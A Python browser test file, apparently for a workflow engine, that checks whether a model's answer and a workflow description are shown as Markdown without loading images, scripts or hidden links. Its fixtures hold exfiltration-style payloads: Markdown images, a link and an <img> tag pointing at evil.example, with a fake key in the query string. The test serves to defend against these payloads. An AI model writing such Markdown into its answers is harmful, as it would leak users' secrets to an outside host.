"""What a model answers is read as Markdown: a stranger's text in it loads nothing and hides no address."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from engine.orchestra import Orchestra
from engine.people.access import Principal
from tests.browser.conftest import Served, settled
from tests.odd_strings import MARKUP

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [pytest.mark.slow, pytest.mark.browser]

OWNER = Principal("owner", "owner")
EVIL = "https://evil.example"
ANSWER = f"""# Summary

**Three** mails, see [your bank]({EVIL}/?q=sk-1234) and `code`.

![chart]({EVIL}/x.png?q=sk-1234) <img src="{EVIL}/y.png"> :red[alarm] :material/check: $x^2$

| mail | kind |
| --- | ---: |
| one | bug |

"""
WORKFLOW: dict[str, Any] = {
    "schema_version": 1,
    "title": "Answers",
    "description": f"Sums up **mails**; ![p]({EVIL}/p.png)\n\n- each morning",
    "inputs": {"type": "object", "properties": {"text": {"type": "string"}}},
    "steps": [{"id": "said", "title": "Said", "uses": "flow.set", "with": {"values": {"text": "{{ inputs.text }}"}}}],
    "outputs": {"answer": "{{ steps.said.output.text }}"},
}


@pytest.fixture
def run_id(served: Served) -> str:
    (served.root / "workflows" / "answers.json").write_text(json.dumps(WORKFLOW))
    orchestra = Orchestra.open(served.root, demo=True)
    try:
        run_id = orchestra.runs.start(OWNER, "answers", {"text": ANSWER + "\n\n".join(MARKUP)})
        orchestra.runs.wait(OWNER, run_id, 60)
        return run_id
    finally:
        orchestra.close()


def test_an_answer_is_read_as_markdown_and_loads_nothing(served: Served, page: Page, run_id: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.goto(f"{served.url}/run?id={run_id}")
    answer = page.locator(".prose-framed")
    answer.get_by_role("heading", name="Summary").wait_for()
    settled(page)
    assert answer.locator("strong").first.inner_text() == "Three"
    assert answer.get_by_role("cell", name="bug").is_visible()
    links = answer.get_by_role("link").all()
    assert [one.get_attribute("href") for one in links] == [f"{EVIL}/?q=sk-1234", f"{EVIL}/y.png"]
    assert all(one.inner_text() == one.get_attribute("href") for one in links)
    assert links[0].get_attribute("target") == "_blank"
    assert links[0].get_attribute("rel") == "noopener noreferrer"
    assert ":red[alarm] :material/check: $x^2$" in answer.inner_text()
    assert answer.locator("img, svg, iframe, script, style, .katex, [onerror], [onload]").count() == 0
    assert page.evaluate("window.harm ?? null") is None
    assert not any("evil" in one for one in asked)

    page.get_by_text("As text").click()
    answer.wait_for(state="detached")
    assert page.get_by_text("# Summary").count() == 2  # as the input and as the output


def test_descriptions_are_read_as_markdown(served: Served, page: Page, run_id: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for path in ("workflows", "workflow?name=answers"):
        page.goto(f"{served.url}/{path}")
        shown = page.locator(".prose", has_text="Sums up")
        shown.wait_for()
        assert shown.locator("strong").inner_text() == "mails"
        assert shown.locator("li").inner_text() == "each morning"
        settled(page)
    assert run_id
    assert not any("evil" in one for one in asked)
